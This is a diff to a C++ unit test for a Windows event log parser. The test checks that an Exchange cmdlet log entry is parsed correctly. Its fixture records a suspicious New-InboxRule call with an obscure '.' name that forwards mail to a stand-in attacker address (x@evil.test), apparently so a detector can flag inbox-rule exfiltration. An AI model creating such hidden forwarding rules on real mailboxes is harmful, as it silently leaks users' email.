@@ -243,7 +243,7 @@ void WindowsExportsTest::terminalServicesAreRdp() {
 void WindowsExportsTest::cmdletsOfTheApplicationLog() {
     const std::string csv = "Level,Date and Time,Source,Event ID,Task Category\r\n"
                             "Information,12/11/2025 11:14:03 PM,MSExchange CmdletLogs,1,General,\"Cmdlet succeeded. Cmdlet New-InboxRule, parameters -Name \"\".\"\" -ForwardTo \"\"x@evil.test\"\".\"\r\n";
-    const Event& e = readLog("windows-events-csv", csv).events.at(0);
+    const Event e = readLog("windows-events-csv", csv).events.at(0);
     QCOMPARE(e.field("cmdlet"), std::string_view("New-InboxRule"));
     QVERIFY(e.field("parameters").find("x@evil.test") != std::string_view::npos);
     QCOMPARE(actionName(e.action), std::string_view("rule"));
